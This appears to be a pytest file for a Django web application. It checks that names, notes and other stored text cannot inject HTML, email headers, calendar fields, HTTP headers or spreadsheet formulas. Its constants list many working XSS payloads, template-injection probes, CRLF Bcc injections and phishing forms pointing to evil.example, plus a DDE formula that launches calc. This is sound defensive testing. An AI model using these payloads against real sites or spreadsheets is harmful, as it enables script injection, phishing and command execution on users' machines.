"""Whatever stands in a name, a note, a subject or a file that was set aside: on a page it is text, in a file a cell.

Every field holds one text with all that ends or begins something. WELLKEPT_LONG=1: every field holds every nasty text.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections import Counter
from collections.abc import Callable, Iterator
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import icalendar
import pytest
from django.db import transaction

from numbering import number_anew
from tests.web.doors.addresses import Address, addresses, one_each
from tests.web.doors.canaries import Canaries, Canary, found_in
from tests.web.doors.two_firms import TwoFirms, build
from tests.web.doors.visits import Visitors
from tests.web.test_headers import Inline
from wellkept.sdk.formula_guard import unguarded

NASTY = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title></textarea></select></style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)' y='",
    "` onclick=alert(1) `",
    "{{7*7}}{% debug %}{0.__class__}${7*7}%n",
    "&#106;avascript:alert(1)&lt;b&gt;",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import'//evil.example';</style><link rel=stylesheet href=//evil.example>",
    "\r\nBcc: eve@evil.example\r\nATTENDEE:mailto:eve@evil.example",
    "\x0b\x0c\u2028\u2029\u202e\u2066<b>",
    "=?utf-8?q?A=0D=0ABcc:_eve=40evil.example?=",
    "]]><![CDATA[<script>alert(1)</script>",
)
# In every place of a page it would end what stands around it, and begin something else.
ALL_IN_ONE = (
    "\"'`></title></textarea></select></style>--><script>1</script><svg onload=1>{{7*7}}&lt;b&gt;\r\n\u2028\u202e"
)
LONG = os.environ.get("WELLKEPT_LONG") == "1"
ENDS = (
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "\n",
    "\x1f",
)
BEGINS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg/>#x'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<audio src onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href=data:text/html,<script>alert(1)</script>>here</a>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>Go</button>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=width:expression(alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mi xlink:href=javascript:alert(1)>here</mi></math>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
FIELDS = 140  # at least as many texts stand in a world
COMPOSED = tuple(end + begin for end in ENDS for begin in BEGINS)
FORMULAS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    ";=1",
    "=cmd|'/c calc'!A1",
    "%x",
    "|x",
)


class Skeleton(HTMLParser):
    """What a page is made of, apart from its words: each element with the names of its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: Counter[tuple[str, ...]] = Counter()
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag, *(name for name, _ in attrs)] += 1
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_comment(self, data: str) -> None:
        self.elements["comment"] += 1

    def handle_decl(self, decl: str) -> None:
        self.elements["declaration"] += 1

    def unknown_decl(self, data: str) -> None:
        self.elements["declaration"] += 1


def plain(canary: Canary) -> str:
    return str(canary)


def words_alone(words: Callable[[Canary], str]) -> Callable[[Canary], str]:
    """The same words without any sign between them: what pages make of words is the same."""
    return lambda canary: f"{canary} {' '.join(re.findall(r'[A-Za-z]+', words(canary).removeprefix(str(canary))))}"


def all_in_one(canary: Canary) -> str:
    return f"{canary}{ALL_IN_ONE}"


def nasty(canary: Canary, turn: int = 0) -> str:
    return f"{canary}{NASTY[(canary.number + turn) % len(NASTY)]}"


def formula(canary: Canary) -> str:
    return f"{FORMULAS[canary.number % len(FORMULAS)]}{canary}"


def composed(canary: Canary, turn: int) -> str:
    return f"{canary}{COMPOSED[(canary.number + turn) % len(COMPOSED)]}"


def _turns() -> list[Callable[[Canary], str]]:
    """Every nasty text in every field, and every composed one in some."""
    every = [partial(nasty, turn=turn) for turn in range(len(NASTY))]
    return [*(partial(composed, turn=turn) for turn in range(0, len(COMPOSED), FIELDS)), *every]


World = Callable[[Callable[[Canary], str]], TwoFirms]


@pytest.fixture
def world_of(db: None, doors_folder: Path) -> Iterator[World]:
    """A world whose every text is worded as asked; what the one before held is taken back first."""
    opened: list[Any] = []

    def close() -> None:
        while opened:
            transaction.set_rollback(True)
            opened.pop().__exit__(None, None, None)

    def make(words: Callable[[Canary], str]) -> TwoFirms:
        close()
        opened.append(transaction.atomic())
        opened[0].__enter__()
        number_anew()
        return build(doors_folder / "columns", Canaries(words))

    yield make
    close()


def told(world: TwoFirms) -> list[Address]:
    """One of each page, and every finding and action: they say most."""
    return [*one_each(world), *(one for one in addresses(world) if one.name in {"finding", "action"})]


def pages(world: TwoFirms, role: str) -> dict[str, str]:
    """Address → page, for all that a role sees; with searches, and forms that come back refused."""
    visitors, found = Visitors(world), {}
    more = ("/find?q=cnry", "/people?side=us", "/people?q=zz<b>", "/portfolio?rows=dense&q=cnry", "/note?next=\"'><b>")
    for url in (*(one.url for one in told(world)), *more):
        visit = visitors.get(role, url)
        if visit.status == 200 and "text/html" in visit.headers:
            found[url] = visit.body
    for url, sent in (("/note", {"contacts": "<b>", "note": "</textarea><b>"}), ("/signin", {"username": '"><b>'})):
        found[f"POST {url}"] = visitors.ask(role, "POST", url, sent).body
    return found


@pytest.mark.parametrize("role", ["admin", "member_a"])
def test_no_element_and_no_attribute_comes_from_data(world_of: World, role: str) -> None:
    """Every page has the same skeleton, whether its words are plain or nasty."""
    for words in (all_in_one, *(_turns() if LONG else ())):
        calm = {url: Skeleton(body) for url, body in pages(world_of(words_alone(words)), role).items()}
        wild = pages(world_of(words), role)
        assert calm.keys() == wild.keys()
        shown: set[Canary] = set()
        for url, body in wild.items():
            found = Skeleton(body)
            assert found.elements == calm[url].elements, url
            assert Inline(body).found == [], url
            assert all(link.startswith(("/", "#", "?", "mailto:")) or not link for link in found.links), url
            shown |= found_in(body)
        assert len(shown) > (150 if role == "admin" else 60)


def test_a_draft_goes_to_one_person(world_of: World) -> None:
    """A link to a mail program has one recipient, a subject and a body, whatever a name holds."""
    drafts = [
        link
        for body in pages(world_of(nasty), "admin").values()
        for link in Skeleton(body).links
        if link.startswith("mailto:")
    ]
    assert len(drafts) >= 4
    for link in drafts:
        parts = urlsplit(link)
        assert parts.path.count("@") <= 1
        assert "," not in parts.path
        assert parse_qs(parts.query, strict_parsing=True).keys() == {"subject", "body"}
        assert "\n" not in parse_qs(parts.query)["subject"][0]


def test_a_calendar_holds_what_it_was_made_of(world_of: World) -> None:
    world = world_of(nasty)
    visit = Visitors(world).get("admin", f"/action/{world.actions['a'][0].pk}/file")
    events = icalendar.Calendar.from_ical(visit.body).walk("VEVENT")
    assert len(events) == 3
    assert {name for event in events for name in event} <= {
        *("UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "STATUS", "TRANSP", "CLASS", "SEQUENCE")
    }


def test_no_header_holds_data(world_of: World) -> None:
    world = world_of(nasty)
    visitors = Visitors(world)
    for address in one_each(world):
        visitors.get("admin", address.url)
        assert found_in(str(dict(visitors.answer.items()))) == set(), address.url
    for url in ("/portfolio?format=csv", "/portfolio?format=csv&as_of=2026-02-02%0d%0aX-Evil:1"):
        assert "X-Evil" not in visitors.get("admin", url).headers


def test_a_spreadsheet_runs_nothing(world_of: World) -> None:
    """Cells that a spreadsheet would take for a formula get an apostrophe in front, and lose nothing."""
    world = world_of(formula)
    visitors, brought = Visitors(world), world.brought_by
    assert brought is not None
    cells: list[str] = []
    for url in ("/portfolio?format=csv", f"/data/{brought.pk}/aside.csv"):
        rows = list(csv.reader(io.StringIO(visitors.get("admin", url).body, newline="")))
        assert len({len(row) for row in rows}) == 1
        cells += [cell for row in rows[1:] for cell in row if found_in(cell)]
    assert len(cells) >= 8
    for cell in cells:
        assert cell.startswith("'"), cell
        assert unguarded(cell) == formula(found_in(cell).pop())


def test_numbers_stay_numbers(world_of: World) -> None:
    rows = list(csv.DictReader(io.StringIO(Visitors(world_of(plain)).get("admin", "/portfolio?format=csv").body)))
    assert [float(row["reach"]) for row in rows] == [61.0, 61.0]
